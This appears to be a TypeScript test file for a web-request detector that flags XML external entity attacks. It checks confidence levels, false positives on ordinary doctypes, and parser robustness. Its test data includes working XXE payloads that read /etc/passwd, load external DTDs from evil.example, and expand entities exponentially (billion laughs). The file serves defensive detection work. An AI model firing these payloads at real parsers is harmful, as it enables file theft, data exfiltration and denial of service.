import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Field } from "../../../model/field.ts";
import type { Match } from "../../detector.ts";
import { xmlExternalEntity } from "./xml-external-entity.ts";

function detect(value: string, field: Partial<Field> = {}): Match | undefined {
  return xmlExternalEntity.detect({
    location: "query",
    name: "q",
    part: "value",
    type: "string",
    value,
    ...field,
  });
}

describe("XML that loads or expands", () => {
  test.each([
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://evil.example/x.dtd">%d;]>',
    '<!DOCTYPE a SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE a PUBLIC "b" "http://evil.example/x">',
    '"<!DOCTYPE a [<!ENTITY x SYSTEM ""file:///dev/random"">]>"',
    "<!ENTITY % c 'aaa)><!ENTITY &#x25; f SYSTEM \"file:///etc/passwd\">'>",
    '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>',
    '<!DOCTYPE a [<!ENTITY b "&b;">]>',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>',
    '<xsl:stylesheet xmlns:php="http://php.net/xsl">',
  ])("is flagged with high confidence: %j", (value) => {
    expect(detect(value)).toMatchObject({ confidence: "high" });
  });

  test.each([
    '<!DOCTYPE a [<!ENTITY % p "text">]>',
    '<x xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:copy-of select="document(\'/a\')"/></x>',
  ])("is flagged with medium confidence: %j", (value) => {
    expect(detect(value)).toMatchObject({ confidence: "medium" });
  });

  test.each([
    '<!DOCTYPE a [<!ENTITY b "plain text">]>',
    '<!DOCTYPE note SYSTEM "note.dtd">',
    'People write a document which contains <!ENTITY x SYSTEM "file:///etc/passwd"> to read files',
  ])("stays at low confidence: %j", (value) => {
    expect(detect(value)).toMatchObject({ confidence: "low" });
  });

  test.each([
    "<!DOCTYPE html><html></html>",
    "<!doctype html>",
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
    "<a>b</a>",
    "",
  ])("is not seen in %j", (value) => {
    expect(detect(value)).toBeUndefined();
  });

  test("is seen in the declaration that a body's reader hands over", () => {
    const value = '<!DOCTYPE a [<!ENTITY x SYSTEM "http://evil.example/">]>';

    expect(detect(value, { location: "body", name: "!DOCTYPE" })?.confidence).toBe("high");
  });

  test("is less sure of a namespace of includes on an element of a body", () => {
    const field = { location: "body", name: "/a/@xmlns:xi" } as const;

    expect(detect("http://www.w3.org/2001/XInclude", field)?.confidence).toBe("medium");
  });
});

describe("reading", () => {
  test("takes any text without failing, and keeps its offsets inside", () => {
    const unit = fc.constantFrom(
      "<!ENTITY a ",
      "<!DOCTYPE ",
      "<!ENTITY a '",
      "&a;",
      "<xi:include ",
      "xmlns",
      ..."\"'<>!()[]{}:;=&|/*%#\n\r a1O",
    );
    fc.assert(
      fc.property(fc.string({ unit }), (value) => {
        const match = detect(value);
        if (match === undefined) return;
        expect(match.start).toBeLessThanOrEqual(match.end);
        expect(match.end).toBeLessThanOrEqual(value.length);
      }),
    );
  });

  test.each([
    "<!ENTITY a ",
    "<!DOCTYPE ",
    "<!ENTITY a '",
    "&a;",
    "<xi:include ",
    "xmlns",
  ])("stays linear on a megabyte of %j", (pump) => {
    const value = pump.repeat(1_048_576 / pump.length);
    const started = performance.now();
    detect(value);
    expect(performance.now() - started).toBeLessThan(3_000);
  });
});
